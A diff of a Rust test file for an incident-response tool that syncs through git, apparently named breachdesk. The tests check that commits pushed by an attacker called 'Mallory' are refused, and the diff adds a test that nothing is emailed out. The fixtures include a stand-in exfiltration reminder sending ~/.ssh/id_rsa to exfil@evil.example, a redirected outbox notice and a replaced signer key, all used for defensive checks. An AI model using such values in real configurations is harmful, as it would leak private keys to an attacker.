@@ -7,6 +7,9 @@
 //! reminders, the machine id and the ignore list are byte for byte as
 //! before, and `list` still shows the records.
 
+#[path = "support/smtp_server.rs"]
+mod smtp_server;
+
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
@@ -173,14 +176,26 @@ struct Team {
 }
 
 fn team() -> Team {
+    team_with(ALICE)
+}
+
+/// A team whose victim has `alice_config`.
+fn team_with(alice_config: &str) -> Team {
     let root = tempfile::tempdir().expect("temp dir");
     let remote = root.path().join("team.git");
     git_in(
         root.path(),
-        &["init", "--quiet", "--bare", "--initial-branch", "main", remote.to_str().expect("utf-8")],
+        &[
+            "init",
+            "--quiet",
+            "--bare",
+            "--initial-branch",
+            "main",
+            remote.to_str().expect("utf-8"),
+        ],
     );
     let url = remote.to_str().expect("utf-8");
-    let alice = Responder::new(root.path(), "alice", ALICE);
+    let alice = Responder::new(root.path(), "alice", alice_config);
     let bob = Responder::new(root.path(), "bob", BOB);
     let incidents = vec![
         alice.new_incident("Admin portal login from unknown IP"),
@@ -195,7 +210,14 @@ fn team() -> Team {
     let mallory = root.path().join("mallory");
     git_in(
         root.path(),
-        &["clone", "--quiet", "--branch", "main", url, mallory.to_str().expect("utf-8")],
+        &[
+            "clone",
+            "--quiet",
+            "--branch",
+            "main",
+            url,
+            mallory.to_str().expect("utf-8"),
+        ],
     );
     Team {
         remote,
@@ -210,9 +232,14 @@ fn team() -> Team {
 impl Team {
     /// Mallory commits everything she staged and pushes; the commit's id.
     fn push(&self, message: &str) -> String {
-        git_in(&self.mallory, &["commit", "--quiet", "--allow-empty", "-m", message]);
+        git_in(
+            &self.mallory,
+            &["commit", "--quiet", "--allow-empty", "-m", message],
+        );
         git_in(&self.mallory, &["push", "--quiet", "origin", "HEAD:main"]);
-        git_in(&self.mallory, &["rev-parse", "HEAD"]).trim().to_string()
+        git_in(&self.mallory, &["rev-parse", "HEAD"])
+            .trim()
+            .to_string()
     }
 
     fn write(&self, path: &str, bytes: &[u8]) {
@@ -234,7 +261,10 @@ impl Team {
         let ids = alice.ids();
         let err = alice.fails(&["sync"]);
         assert_eq!(err.lines().count(), 1, "{err}");
-        let expected = format!("breachdesk: error: refused commit {} by {MALLORY}: {path} ", &commit[..12]);
+        let expected = format!(
+            "breachdesk: error: refused commit {} by {MALLORY}: {path} ",
+            &commit[..12]
+        );
         assert!(err.starts_with(&expected), "{err}\nexpected: {expected}");
         assert!(err.trim_end().ends_with("; nothing was merged"), "{err}");
         assert_eq!(alice.git(&["rev-parse", "HEAD"]), head, "HEAD moved");
@@ -262,7 +292,10 @@ impl Team {
 #[test]
 fn machine_local_files_from_the_remote_are_refused() {
     let cases: [(&str, &[u8]); 4] = [
-        ("reminders/outbox/R-1.toml", b"to = \"exfil@evil.example\"\nattach = \"~/.ssh/id_rsa\"\n"),
+        (
+            "reminders/outbox/R-1.toml",
+            b"to = \"exfil@evil.example\"\nattach = \"~/.ssh/id_rsa\"\n",
+        ),
         ("reminders.json", b"{\"done\":[\"everything\"]}\n"),
         ("machine-id", b"00000000000000bb\n"),
         ("index.json", b"{}\n"),
@@ -278,7 +311,12 @@ fn machine_local_files_from_the_remote_are_refused() {
         git_in(&team.mallory, &["add", "--force", "--", path]);
         let commit = team.push("helpful change");
         let err = team.refused(&commit, path);
-        assert!(err.contains("is machine-local (only incidents/, audit/chains/ and audit/signers/ may change)"), "{err}");
+        assert!(
+            err.contains(
+                "is machine-local (only incidents/, audit/chains/ and audit/signers/ may change)"
+            ),
+            "{err}"
+        );
     }
 }
 
@@ -298,15 +336,24 @@ fn a_committed_locks_symlink_is_refused_and_the_desk_still_works() {
 fn the_ignore_list_and_attributes_are_only_ever_what_breachdesk_writes() {
     for (path, bytes) in [
         (".gitignore", String::new()),
-        (".gitattributes", format!("{}* text eol=crlf\n", breachdesk::sync::GITATTRIBUTES)),
-        (".gitattributes", breachdesk::sync::GITATTRIBUTES.replace("merge=breachdesk-record", "merge=union")),
+        (
+            ".gitattributes",
+            format!("{}* text eol=crlf\n", breachdesk::sync::GITATTRIBUTES),
+        ),
+        (
+            ".gitattributes",
+            breachdesk::sync::GITATTRIBUTES.replace("merge=breachdesk-record", "merge=union"),
+        ),
     ] {
         let team = team();
         team.write(path, bytes.as_bytes());
         git_in(&team.mallory, &["add", path]);
         let commit = team.push("tidy");
         let err = team.refused(&commit, path);
-        assert!(err.contains("is not exactly what breachdesk writes there"), "{err}");
+        assert!(
+            err.contains("is not exactly what breachdesk writes there"),
+            "{err}"
+        );
     }
 }
 
@@ -341,7 +388,10 @@ fn the_victims_own_chain_cannot_be_rewritten() {
     git_in(&team.mallory, &["add", &chain]);
     let commit = team.push("rehash");
     let err = team.refused(&commit, &chain);
-    assert!(err.contains("changes this machine's own audit chain"), "{err}");
+    assert!(
+        err.contains("changes this machine's own audit chain"),
+        "{err}"
+    );
 
     // A pure append to the victim's chain is refused too: only it writes it.
     let team = self::team();
@@ -373,12 +423,18 @@ fn a_signer_key_is_never_replaced() {
     let team = team();
     let key = format!("audit/signers/{}.pub", team.bob.machine_id());
     // Bob's key arrives once (an addition: taken).
-    team.write(&key, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob Bob Baker\n");
+    team.write(
+        &key,
+        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob Bob Baker\n",
+    );
     git_in(&team.mallory, &["add", &key]);
     team.push("bob's key");
     team.alice.ok(&["sync"]);
     assert!(team.alice.data.join(&key).exists());
-    team.write(&key, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMal Bob Baker\n");
+    team.write(
+        &key,
+        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMal Bob Baker\n",
+    );
     git_in(&team.mallory, &["add", &key]);
     let commit = team.push("rotate bob's key");
     let err = team.refused(&commit, &key);
@@ -391,7 +447,12 @@ fn a_submodule_and_a_mode_change_are_refused() {
     let head = git_in(&team.mallory, &["rev-parse", "HEAD"]);
     git_in(
         &team.mallory,
-        &["update-index", "--add", "--cacheinfo", &format!("160000,{},vendor", head.trim())],
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("160000,{},vendor", head.trim()),
+        ],
     );
     let commit = team.push("vendor");
     let err = team.refused(&commit, "vendor");
@@ -408,19 +469,31 @@ fn a_submodule_and_a_mode_change_are_refused() {
 #[test]
 fn joining_a_team_whose_remote_holds_a_machine_local_file_checks_nothing_out() {
     let team = team();
-    team.write("outbox/N-20261128-143201-7f3a9c.toml", b"to = \"exfil@evil.example\"\n");
+    team.write(
+        "outbox/N-20261128-143201-7f3a9c.toml",
+        b"to = \"exfil@evil.example\"\n",
+    );
     git_in(&team.mallory, &["add", "--force", "outbox"]);
     let commit = team.push("outbox");
     let carol = Responder::new(team.remote.parent().expect("root"), "carol", BOB);
     let err = carol.fails(&["sync", "init", team.remote.to_str().expect("utf-8")]);
     assert_eq!(err.lines().count(), 1, "{err}");
     assert!(
-        err.contains(&format!("refused commit {} by {MALLORY}: outbox/N-20261128-143201-7f3a9c.toml is machine-local", &commit[..12])),
+        err.contains(&format!(
+            "refused commit {} by {MALLORY}: outbox/N-20261128-143201-7f3a9c.toml is machine-local",
+            &commit[..12]
+        )),
         "{err}"
     );
     assert!(!carol.data.join(".git").exists());
     assert!(!carol.data.join("outbox").exists());
-    assert!(!carol.data.join("incidents").join(format!("{}.toml", team.incidents[0])).exists());
+    assert!(
+        !carol
+            .data
+            .join("incidents")
+            .join(format!("{}.toml", team.incidents[0]))
+            .exists()
+    );
 }
 
 #[test]
@@ -431,7 +504,11 @@ fn an_emptied_gitignore_never_sends_machine_local_files() {
     std::fs::create_dir_all(alice.data.join("logs")).expect("logs");
     std::fs::write(alice.data.join("logs/breachdesk.log"), "secret\n").expect("log");
     std::fs::create_dir_all(alice.data.join("outbox")).expect("outbox");
-    std::fs::write(alice.data.join("outbox/N-1.toml"), "to = \"csr@client.example\"\n").expect("outbox");
+    std::fs::write(
+        alice.data.join("outbox/N-1.toml"),
+        "to = \"csr@client.example\"\n",
+    )
+    .expect("outbox");
     alice.ok(&["log", &team.incidents[0], "After the ignore list went"]);
     alice.ok(&["sync"]);
     let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
@@ -460,7 +537,10 @@ fn an_emptied_gitignore_never_sends_machine_local_files() {
     alice.git(&["add", "--force", "machine-id"]);
     let err = alice.fails(&["sync"]);
     assert_eq!(err.lines().count(), 1, "{err}");
-    assert!(err.contains("machine-id is staged but is machine-local"), "{err}");
+    assert!(
+        err.contains("machine-id is staged but is machine-local"),
+        "{err}"
+    );
     let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
     assert!(!tree.contains("machine-id"), "{tree}");
 }
@@ -485,4 +565,74 @@ fn a_record_quarantined_here_is_never_deleted_for_the_team() {
     alice.ok(&["sync"]);
     assert!(alice.data.join(&record).exists());
     assert!(alice.ids().contains(id));
+}
+
+/// The `[smtp]` section for a loopback server on `port` trusting `ca`, and
+/// the contacts a notice goes to.
+fn mail_config(responder: &str, port: u16, ca: &Path) -> String {
+    format!(
+        "{responder}role = \"service-provider\"\n[contacts]\nother_party = \"Client Security Representative <csr@client.example>\"\n[smtp]\nhost = \"127.0.0.1\"\nport = {port}\nsecurity = \"starttls\"\nca_file = \"{}\"\ntimeout_secs = 5\n",
+        ca.display()
+    )
+}
+
+/// A notice committed into `outbox/` (a real one, made by Mallory's own
+/// breachdesk while her server was down, then pointed at her address) is
+/// refused; the victim's outbox retry and `watch --once` afterwards send
+/// nothing: the loopback server sees no connection at all.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_committed_outbox_notice_is_refused_and_nothing_is_sent() {
+    let pki = smtp_server::pki();
+    let server = smtp_server::TestServer::start(smtp_server::Options {
+        tls: Some(pki.server_config.clone()),
+        starttls: true,
+        ..smtp_server::Options::default()
+    })
+    .await;
+    let keys = tempfile::tempdir().expect("temp dir");
+    let ca = keys.path().join("ca.pem");
+    std::fs::write(&ca, &pki.ca_pem).expect("ca");
+    let team = tokio::task::block_in_place(|| team_with(&mail_config(ALICE, server.port(), &ca)));
+
+    // Mallory's own breachdesk, with no server: her notice waits in her outbox.
+    let down = smtp_server::reserve_port();
+    let mallory = Responder::new(
+        team.mallory.parent().expect("root"),
+        "mallory-desk",
+        &mail_config(
+            "[responder]\nname = \"Mallory\"\nemail = \"mallory@evil.example\"\n",
+            down.port(),
+            &ca,
+        ),
+    );
+    let (notice_name, notice) = tokio::task::block_in_place(|| {
+        let id = mallory.new_incident("Bait");
+        let out = mallory.run(&["update", &id, "--message", "Evidence attached", "--yes"]);
+        assert!(!out.status.success());
+        let entry = std::fs::read_dir(mallory.data.join("outbox"))
+            .expect("outbox")
+            .flatten()
+            .find(|e| e.file_name().to_string_lossy().ends_with(".toml"))
+            .expect("a queued notice");
+        let text = std::fs::read_to_string(entry.path()).expect("notice");
+        assert!(text.contains("csr@client.example"), "{text}");
+        (
+            entry.file_name().to_string_lossy().into_owned(),
+            text.replace("csr@client.example", "exfil@evil.example")
+                .replace(&id, &team.incidents[0]),
+        )
+    });
+    let path = format!("outbox/{notice_name}");
+    team.write(&path, notice.as_bytes());
+    git_in(&team.mallory, &["add", "--force", "--", &path]);
+    let commit = team.push("queued notice");
+    tokio::task::block_in_place(|| {
+        let err = team.refused(&commit, &path);
+        assert!(err.contains("is machine-local"), "{err}");
+        assert!(!team.alice.data.join(&path).exists());
+        team.alice.ok(&["outbox", "retry"]);
+        team.alice.ok(&["watch", "--once"]);
+    });
+    assert_eq!(server.connections(), 0, "{:?}", server.commands());
+    assert!(server.messages().is_empty());
 }
